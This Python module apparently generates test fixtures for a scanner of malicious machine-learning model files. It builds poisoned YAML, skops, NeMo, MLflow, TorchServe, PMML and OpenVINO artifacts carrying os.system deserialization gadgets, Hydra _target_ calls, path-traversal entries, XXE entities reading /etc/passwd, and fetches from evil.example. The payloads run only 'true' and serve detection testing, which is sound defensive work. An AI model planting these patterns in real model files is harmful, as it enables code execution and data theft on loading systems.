"""skops, NeMo, MLflow, YAML, TorchServe, PMML, OpenVINO, Core ML, flax and others."""

import json

from tools.attacks.opcodes import system
from tools.attacks.torches import packed
from tools.attacks.wire import message
from tools.attacks.wrapped import tarred

YAMLS = {
    "apply": "model: !!python/object/apply:os.system ['true']\n",
    "new": "model: !!python/object/new:subprocess.Popen [['true']]\n",
    "object": "model: !!python/object:os.x {}\n",
    "name": "f: !!python/name:os.system\n",
    "module": "m: !!python/module:os\n",
    "verbatim tag": "x: !<tag:yaml.org,2002:python/object/apply:os.system> ['true']\n",
    "tag directive": "%TAG !e! tag:yaml.org,2002:python/object/apply:\n---\nx: !e!os.system ['true']\n",
    "escaped tag": "x: !!python/object/apply%3Aos.system ['true']\n",
    "flow": "{a: [1, !!python/object/apply:os.system ['true']]}\n",
    "second document": "a: 1\n---\nb: !!python/object/apply:os.system ['true']\n",
    "in a key": "? !!python/object/apply:os.system ['true']\n: 1\n",
    "with an anchor": "a: &x !!python/object/apply:os.system ['true']\n",
    "anchor first": "a: !!python/object/apply:os.system &x ['true']\n",
    "hydra target": "model:\n  _target_: os.system\n  command: 'true'\n",
    "hydra subprocess": "model:\n  _target_: subprocess.check_output\n  args: ['true']\n",
    "hydra quoted": 'model:\n  "_target_": builtins.exec\n',
    "hydra flow": "{model: {_target_: builtins.eval, _args_: ['1']}}\n",
    "hydra torch load": "model:\n  _target_: torch.load\n  f: x.pt\n",
    "hydra method": "model:\n  _target_: hydra.utils.get_method\n  path: os.system\n",
    "hydra in a list": "callbacks:\n- _target_: os.popen\n  cmd: 'true'\n",
    "hyperpyyaml new": "model: !new:os.system\n  command: 'true'\n",
    "hyperpyyaml apply": "model: !apply:os.system ['true']\n",
    "hyperpyyaml name": "model: !name:subprocess.run\n",
    "class path": "model:\n  class_path: os.system\n  init_args: {}\n",
}


def cases() -> dict[str, dict[str, bytes]]:
    found = {f"yaml/{name}": {"model_config.yaml": text.encode()} for name, text in YAMLS.items()}
    return found | _skops() | _archives() | _xml() | _rest()


def skops(loader: str, module: str, name: str, **more: object) -> bytes:
    schema = {
        "__class__": name,
        "__module__": module,
        "__loader__": loader,
        "__id__": 1,
        "protocol": 2,
        "_skops_version": "0.13",
        **more,
    }
    return packed({"schema.json": json.dumps(schema).encode()})


def _skops() -> dict[str, dict[str, bytes]]:
    inner = {
        "__class__": "system",
        "__module__": "os",
        "__loader__": "FunctionNode",
        "__id__": 2,
        "content": "os.system",
    }
    wrapper = {
        "__class__": "MethodNode",
        "__module__": "builtins",
        "__loader__": "MethodNode",
        "__id__": 3,
        "content": {"func": "system", "obj": inner},
    }
    return {
        "skops/function": {"m.skops": skops("FunctionNode", "os", "system", content="os.system")},
        "skops/type": {"m.skops": skops("TypeNode", "subprocess", "Popen")},
        "skops/object": {"m.skops": skops("ObjectNode", "subprocess", "Popen", content=None)},
        "skops/operator": {"m.skops": skops("OperatorFuncNode", "operator", "methodcaller", attrs={})},
        "skops/method": {"m.skops": skops("MethodNode", "builtins", "exec", content={"func": "exec", "obj": inner})},
        "skops/reduce": {"m.skops": skops("ReduceNode", "os", "system", reduce={"args": inner})},
        "skops/nested": {"m.skops": skops("DictNode", "builtins", "dict", content={"a": wrapper}, key_types=inner)},
        "skops/json node": {
            "m.skops": skops(
                "JsonNode",
                "builtins",
                "str",
                content='"x"',
                is_json=True,
                extra={"__loader__": "FunctionNode", "__module__": "os", "__class__": "system", "__id__": 9},
            )
        },
        "skops/pickle inside": {
            "m.skops": packed(
                {
                    "schema.json": json.dumps(
                        {
                            "__class__": "dict",
                            "__module__": "builtins",
                            "__loader__": "DictNode",
                            "__id__": 1,
                            "content": {},
                            "protocol": 2,
                        }
                    ).encode(),
                    "1.npy": system(),
                }
            )
        },
        "skops/joblib inside": {"m.skops": packed({"m.pkl": system()})},
        "suspicious/skops unknown type": {"m.skops": skops("ObjectNode", "acme.models", "Net", content=None)},
        "suspicious/skops unknown loader": {"m.skops": skops("AcmeNode", "sklearn.svm", "SVC", content=None)},
    }


def _archives() -> dict[str, dict[str, bytes]]:
    hydra = b"model:\n  _target_: os.system\n"
    manifest = json.dumps(
        {
            "runtime": "python",
            "model": {"modelName": "x", "serializedFile": "m.pt", "handler": "handler.py", "modelVersion": "1.0"},
        }
    ).encode()
    mlmodel = b"flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n    python_version: 3.11.0\n"  # noqa: E501
    evil_loader = b"flavors:\n  python_function:\n    loader_module: os\n    code: code\n    data: data\n"
    return {
        "nemo/target": {
            "m.nemo": tarred(
                {
                    "./model_config.yaml": hydra,
                    "./model_weights.ckpt": packed({"m/data.pkl": b"\x80\x02}.", "m/version": b"3\n"}),
                }
            )
        },
        "nemo/weights": {"m.nemo": tarred({"./model_config.yaml": b"a: 1\n", "./model_weights.ckpt": system()})},
        "nemo/gzip": {"m.nemo": tarred({"./model_config.yaml": hydra}, mode="w:gz")},
        "nemo/escaping": {"m.nemo": tarred({"./model_config.yaml": b"a: 1\n", "../../evil.py": b"import os\n"})},
        "nemo/nested target": {
            "m.nemo": tarred({"./model_config.yaml": b"encoder:\n  preprocessor:\n    _target_: 'builtins.exec'\n"})
        },
        "mar/handler": {
            "m.mar": packed(
                {
                    "MAR-INF/MANIFEST.json": manifest,
                    "m.pt": b"\x80\x02}.",
                    "handler.py": b"import os\nos.system('true')\n",
                }
            )
        },
        "mar/weights": {
            "m.mar": packed(
                {"MAR-INF/MANIFEST.json": manifest, "m.pt": system(), "handler.py": b"class H:\n    pass\n"}
            )
        },
        "mar/requirements": {
            "m.mar": packed(
                {
                    "MAR-INF/MANIFEST.json": manifest.replace(
                        b'"1.0"', b'"1.0", "requirementsFile": "requirements.txt"'
                    ),
                    "requirements.txt": b"git+https://evil.example/x\n",
                    "m.pt": b"\x80\x02}.",
                    "handler.py": b"import subprocess\nsubprocess.run('true')\n",
                }
            )
        },
        "mlflow/pickle": {"m/MLmodel": mlmodel, "m/model.pkl": system()},
        "mlflow/loader module": {
            "m/MLmodel": evil_loader,
            "m/code/os.py": b"import subprocess\nsubprocess.run('true')\n",
        },
        "mlflow/code": {
            "m/MLmodel": mlmodel + b"    code: code\n",
            "m/code/x.py": b"import os\nos.system('true')\n",
            "m/model.pkl": b"\x80\x02}.",
        },
        "mlflow/python model": {
            "m/MLmodel": b"flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    python_model: python_model.pkl\n    cloudpickle_version: 3.0.0\n",  # noqa: E501
            "m/python_model.pkl": system(),
        },
        "mlflow/escaping": {"m/MLmodel": mlmodel.replace(b"model.pkl", b"../../../tmp/x.pkl")},
        "bento/pickle": {"m/bento.yaml": b"service: x\n", "m/models/x/saved_model.pkl": system()},
    }


def _xml() -> dict[str, dict[str, bytes]]:
    ir = '<?xml version="1.0"?>\n{}<net name="m" version="11"><layers><layer id="0" name="x" type="{}" version="{}"/></layers><edges/></net>\n'  # noqa: E501
    entity = '<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
    laughs = '<!DOCTYPE net [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>\n'
    pmml = '<?xml version="1.0"?>\n{}<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header/>{}<DataDictionary/></PMML>\n'
    return {
        "openvino/entity": {"m.xml": ir.format(entity, "Parameter", "opset1").encode(), "m.bin": b""},
        "openvino/laughs": {"m.xml": ir.format(laughs, "Parameter", "opset1").encode(), "m.bin": b""},
        "suspicious/openvino extension": {"m.xml": ir.format("", "AcmeOp", "extension").encode(), "m.bin": b""},
        "pmml/entity": {"m.pmml": pmml.format(entity.replace("net", "PMML"), "").encode()},
        "pmml/utf-16 entity": {
            "m.pmml": pmml.format(entity.replace("net", "PMML"), "")
            .replace('"1.0"', '"1.0" encoding="utf-16"')
            .encode("utf-16")
        },
        "pmml/external dtd": {
            "m.pmml": pmml.format('<!DOCTYPE PMML SYSTEM "http://evil.example/x.dtd">\n', "").encode()
        },
        "pmml/parameter entity": {
            "m.pmml": pmml.format('<!DOCTYPE PMML [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]>\n', "").encode()
        },
        "pmml/script extension": {
            "m.pmml": pmml.format(
                "",
                '<Extension name="script" value="os.system(1)"><script>java.lang.Runtime.getRuntime().exec("true")</script></Extension>',  # noqa: E501
            ).encode()
        },
    }


def _rest() -> dict[str, dict[str, bytes]]:
    layer = message((1, "l"), (500, message((10, "AcmeEvilLayer"))))
    coreml = message((1, 5), (2, message((1, message((1, "x"))))), (500, message((1, layer))))
    custom = message((1, 5), (2, message((1, message((1, "x"))))), (555, message((10, "AcmeModel"))))
    return {
        "suspicious/coreml custom layer": {"m.mlmodel": coreml},
        "suspicious/coreml custom model": {"m.mlmodel": custom},
        "others/html error page": {
            "model.safetensors": b"<!DOCTYPE html><html><head><title>404</title></head><body>Not found</body></html>"
        },
        "others/lfs pointer": {
            "model.safetensors": b"version https://git-lfs.github.com/spec/v1\noid sha256:"
            + b"a" * 64
            + b"\nsize 123456\n"
        },
        "others/xet or access denied": {
            "pytorch_model.bin": b"Access to model acme/x is restricted. You must be authenticated to access it."
        },
        "others/json error": {"model.gguf": b'{"error":"Repository not found"}'},
        "others/notebook": {
            "m/config.json": b'{"model_type": "bert"}',
            "m/run.ipynb": json.dumps(
                {
                    "cells": [
                        {
                            "cell_type": "code",
                            "source": ["import os\n", "os.system('true')"],
                            "outputs": [],
                            "metadata": {},
                            "execution_count": None,
                        }
                    ],
                    "metadata": {},
                    "nbformat": 4,
                    "nbformat_minor": 5,
                }
            ).encode(),
        },
        "others/executable": {"model.bin": b"\x7fELF\x02\x01\x01" + bytes(200)},
        "others/windows executable": {
            "model.bin": b"MZ" + bytes(58) + b"\x80\0\0\0" + bytes(64) + b"PE\0\0" + bytes(200)
        },
        "others/shell script": {"model.bin": b"#!/bin/sh\ntrue\n"},
        "others/shared library in a repository": {
            "m/config.json": b'{"model_type": "bert"}',
            "m/custom_op.so": b"\x7fELF\x02\x01\x01" + bytes(200),
        },
    }
